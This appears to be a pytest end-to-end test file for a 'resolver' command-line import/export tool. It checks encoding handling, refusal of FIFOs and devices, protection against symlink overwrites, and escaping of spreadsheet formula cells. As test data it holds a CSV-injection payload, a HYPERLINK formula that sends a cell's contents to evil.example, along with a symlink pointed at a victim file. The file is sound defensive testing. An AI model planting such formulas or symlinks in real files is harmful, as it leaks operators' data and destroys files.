"""`resolver import` and `resolver export` as an operator runs them."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys

import pytest

from resolver.core.csvcells import FORMULA_STARTS

pytestmark = pytest.mark.e2e


def run(*args: str, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "resolver", *args], capture_output=True, text=True, timeout=timeout
    )


def cells_of(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_import_then_export(fresh_database, tmp_path):
    source = tmp_path / "products.csv"
    source.write_text(
        "handle,1:URL,2:EMAIL\n88.123/CLI-1,https://example.com/1,a@b.c\n88.123/CLI-2,https://example.com/2,\nbad-handle,x,y\n",
        encoding="utf-8",
    )
    done = run("import", str(source), "--dsn", fresh_database)
    assert done.returncode == 1, done.stderr  # some rows rejected
    assert "3 rows (2 accepted, 1 rejected)" in done.stderr
    assert "rows/s" in done.stderr  # the progress line
    report = (tmp_path / "products.csv.rejected.csv").read_text(encoding="utf-8")
    assert "bad-handle" in report
    out = tmp_path / "out.jsonl"
    exported = run("export", "--prefix", "88.123", "--output", str(out), "--dsn", fresh_database)
    assert exported.returncode == 0, exported.stderr
    lines = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    handles = {line["handle"]: line for line in lines}
    assert {"88.123/CLI-1", "88.123/CLI-2"} <= set(handles)
    assert [v["type"] for v in handles["88.123/CLI-1"]["value"]] == ["URL", "EMAIL"]


def test_import_of_a_missing_file_is_a_clear_error(fresh_database, tmp_path):
    done = run("import", str(tmp_path / "nope.csv"), "--dsn", fresh_database)
    assert done.returncode == 2 and "nope.csv" in done.stderr


def test_the_report_is_not_written_through_a_symbolic_link(fresh_database, tmp_path):
    """An enterprise's upload directory holding `FILE.rejected.csv -> victim`: the import, run
    as root, replaced the victim's content with its report."""
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n", encoding="utf-8")
    source = tmp_path / "rows.csv"
    source.write_text("handle,1:URL\n88.123/LINK-1,https://a\nbad-handle,x\n", encoding="utf-8")
    report = tmp_path / "rows.csv.rejected.csv"
    report.symlink_to(victim)
    done = run("import", str(source), "--dsn", fresh_database)
    assert done.returncode == 1, done.stderr  # bad-handle is rejected
    assert victim.read_text(encoding="utf-8") == "precious\n"
    # the link itself was replaced by a file of the node's own
    assert not report.is_symlink()
    assert [row[0] for row in cells_of(report.read_bytes())] == ["handle", "bad-handle"]


def test_export_output_is_not_written_through_a_symbolic_link(fresh_database, tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n", encoding="utf-8")
    source = tmp_path / "rows.csv"
    source.write_text("handle,1:URL\n88.123/LINK-2,https://a\n", encoding="utf-8")
    assert run("import", str(source), "--dsn", fresh_database).returncode == 0
    out = tmp_path / "out.jsonl"
    out.symlink_to(victim)
    done = run("export", "--prefix", "88.123", "--output", str(out), "--dsn", fresh_database)
    assert done.returncode == 0, done.stderr
    assert victim.read_text(encoding="utf-8") == "precious\n"
    assert not out.is_symlink()
    assert "88.123/LINK-2" in out.read_text(encoding="utf-8")


@pytest.mark.parametrize("kind", ["fifo", "directory", "device"])
def test_import_refuses_what_is_not_a_regular_file_at_once(fresh_database, tmp_path, kind):
    """A FIFO blocked the import forever (a directory or a device would be no better)."""
    if kind == "fifo":
        source = tmp_path / "rows.csv"
        os.mkfifo(source)
    elif kind == "directory":
        source = tmp_path / "rows"
        source.mkdir()
    else:
        source = tmp_path / "zero.csv"
        source.symlink_to("/dev/zero")  # read as a file, an endless one
    # bounded: before the fix the process waited on the FIFO (or read /dev/zero) until killed here
    done = run("import", str(source), "--dsn", fresh_database, timeout=60)
    assert done.returncode == 2, done.stderr
    assert str(source) in done.stderr and "不是普通文件" in done.stderr
    assert "Traceback" not in done.stderr
    assert not (tmp_path / f"{source.name}.rejected.csv").exists()


def test_report_cells_are_not_run_by_a_spreadsheet_and_hold_no_raw_control_bytes(fresh_database, tmp_path):
    """A rejected cell was written as read: a formula that Excel or WPS runs when the operator opens
    the report, and a NUL byte."""
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
    handles = [formula, "+1+2", "-3", "@SUM(A1)", "\t=1", "\r=1", "'quoted", "88.123/NUL\x00X"]
    source = tmp_path / "rows.csv"
    with open(source, "w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["handle", "1:URL"])
        writer.writerows([handle, "https://a"] for handle in handles)
    lines = tmp_path / "rows.jsonl"
    lines.write_text(
        json.dumps({"handle": "=1+1\u0000", "value": []}) + "\n" + "\x01not json\n", encoding="utf-8"
    )
    for path in (source, lines):
        done = run("import", str(path), "--dsn", fresh_database)
        assert done.returncode == 1, done.stderr  # every row here is rejected
        if path is lines:  # the report of JSON Lines is JSON Lines: nothing a spreadsheet runs
            raw = (tmp_path / f"{path.name}.rejected.jsonl").read_bytes()
            assert b"\x00" not in raw and b"\x01" not in raw
            report = [json.loads(line) for line in raw.decode().splitlines()]
            assert [item.get("handle") for item in report] == ["=1+1\u0000", None]
            assert report[1]["text"] == "\x01not json"
            assert all(item["reason"].startswith(f"第 {n} 行：") for n, item in enumerate(report, 1))
            continue
        raw = (tmp_path / f"{path.name}.rejected.csv").read_bytes()
        assert b"\x00" not in raw and b"\x01" not in raw
        rows = cells_of(raw)[1:]
        for row in rows:
            for cell in row:
                assert not cell.startswith(tuple(FORMULA_STARTS)), row
        if path is source:
            shown = [row[0] for row in rows]
            # one quote in front, as OWASP advises; a cell that starts with a quote gets another
            assert shown == [
                "'" + formula,
                "'+1+2",
                "'-3",
                "'@SUM(A1)",
                "\\x09=1",  # the cell as it was, its control character shown
                "\\x0d=1",
                "''quoted",
                "88.123/NUL\\x00X",
            ]


def test_csv_export_holds_no_formula_cells_nor_raw_control_bytes_and_imports_back_unchanged(
    fresh_database, tmp_path
):
    # (no NUL: the Handle API refuses it in any value)
    values = ['=HYPERLINK("http://evil.example")', "'quoted", "tab\tcr\r", "del\x7f", "c1\x85", "-1"]
    items = [
        {
            "handle": f"88.123/EXP-{i}",
            "value": [{"index": 1, "type": "DESC", "data": {"format": "string", "value": value}}],
        }
        for i, value in enumerate(values)
    ]
    source = tmp_path / "rows.jsonl"
    source.write_text("".join(json.dumps(item) + "\n" for item in items), encoding="utf-8")
    assert run("import", str(source), "--dsn", fresh_database).returncode == 0
    exported = tmp_path / "out.csv"
    done = run(
        "export", "--prefix", "88.123", "--format", "csv", "-o", str(exported), "--dsn", fresh_database
    )
    assert done.returncode == 0, done.stderr
    raw = exported.read_bytes()
    for control in (b"\t", b"\x7f", "\x85".encode()):  # (CR LF ends each line)
        assert control not in raw
    rows = cells_of(raw)
    # cells for the values a spreadsheet keeps, JSON for those with control characters
    assert rows[0] == ["handle", "1:DESC", "values"] and len(rows) == 1 + len(values)
    for row in rows:
        for cell in row:
            assert not cell.startswith(tuple(FORMULA_STARTS)), row
    # what export wrote, import reads back unchanged: every row is found identical to the stored one
    again = run("import", str(exported), "--dsn", fresh_database)
    assert again.returncode == 0, again.stderr
    assert f"{len(values)} rows ({len(values)} accepted, 0 rejected)" in again.stderr
    check = tmp_path / "check.jsonl"
    assert run("export", "--prefix", "88.123", "-o", str(check), "--dsn", fresh_database).returncode == 0
    stored = {
        item["handle"]: item["value"][0]["data"]["value"]
        # (lines end at LF only: str.splitlines would also split at the C1 character NEL)
        for item in map(json.loads, check.read_text(encoding="utf-8").split("\n")[:-1])
    }
    assert stored == {item["handle"]: value for item, value in zip(items, values, strict=True)}


PRODUCTS = [
    ("88.123/XLS-1", "https://example.com/1", "螺栓 M8"),
    ("88.123/XLS-2", "https://example.com/2", "六角螺母（镀锌）"),
]


def _spreadsheet_csv(encoding: str) -> bytes:
    """A CSV as a spreadsheet saves it: CRLF line ends, Chinese cells, in `encoding` (Excel's
    "CSV UTF-8" is utf-8-sig: a byte-order mark first; its plain CSV on Chinese Windows is GBK)."""
    lines = ["handle,1:URL,2000:productName", *(",".join(row) for row in PRODUCTS)]
    return ("\r\n".join(lines) + "\r\n").encode(encoding)


def _stored_names(fresh_database, tmp_path) -> dict[str, str]:
    out = tmp_path / "check.jsonl"
    assert run("export", "--prefix", "88.123", "-o", str(out), "--dsn", fresh_database).returncode == 0
    found = {}
    for line in out.read_text(encoding="utf-8").splitlines():
        item = json.loads(line)
        for value in item["value"]:
            if value["type"] == "productName":
                found[item["handle"]] = value["data"]["value"]
    return found


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-8", "gbk", "gb18030"])
def test_csv_files_as_excel_and_wps_save_them(fresh_database, tmp_path, encoding):
    """Excel's "CSV UTF-8" (byte-order mark) was refused ("CSV 的第一列必须是 handle"), its GBK
    CSV stopped the import ('utf-8' codec can't decode byte): both import every row, unchanged."""
    source = tmp_path / "products.csv"
    source.write_bytes(_spreadsheet_csv(encoding))
    done = run("import", str(source), "--dsn", fresh_database)
    assert done.returncode == 0, done.stderr
    assert "2 rows (2 accepted, 0 rejected)" in done.stderr
    assert _stored_names(fresh_database, tmp_path) == {h: name for h, _, name in PRODUCTS}
    # nothing rejected: no report holding only its header
    assert "no rows rejected" in done.stderr
    assert not (tmp_path / "products.csv.rejected.csv").exists()


def test_a_row_that_is_not_of_the_files_encoding_names_its_line(fresh_database, tmp_path):
    """A UTF-8 file with one row pasted in GBK: that row is rejected with its line and the
    --encoding to try, the others are imported; the exit status says rows were rejected."""
    rows = [b"handle,1:URL,2000:productName", "88.123/MIX-1,https://a,螺栓".encode()]
    rows.append("88.123/MIX-2,https://b,螺母".encode("gbk"))
    rows.append("88.123/MIX-3,https://c,垫圈".encode())
    source = tmp_path / "mixed.csv"
    source.write_bytes(b"\r\n".join(rows) + b"\r\n")
    done = run("import", str(source), "--dsn", fresh_database)
    assert done.returncode == 1, done.stderr
    assert "3 rows (2 accepted, 1 rejected)" in done.stderr
    report = cells_of((tmp_path / "mixed.csv.rejected.csv").read_bytes())
    (rejected,) = report[1:]
    assert "第 3 行" in rejected[-1] and "--encoding" in rejected[-1]


def test_encoding_can_be_named_and_an_unknown_name_is_a_usage_error(fresh_database, tmp_path):
    source = tmp_path / "products.csv"
    source.write_bytes(_spreadsheet_csv("gbk"))
    wrong = run("import", str(source), "--dsn", fresh_database, "--encoding", "no-such-codec")
    assert wrong.returncode == 2 and "no-such-codec" in wrong.stderr
    assert not (tmp_path / "products.csv.rejected.csv").exists()
    # GBK read as UTF-8 by order: every data row is rejected, naming the option
    forced = run("import", str(source), "--dsn", fresh_database, "--encoding", "utf-8")
    assert forced.returncode == 1 and "0 accepted, 2 rejected" in forced.stderr
    named = run("import", str(source), "--dsn", fresh_database, "--encoding", "GB18030")
    assert named.returncode == 0, named.stderr
    assert _stored_names(fresh_database, tmp_path) == {h: name for h, _, name in PRODUCTS}
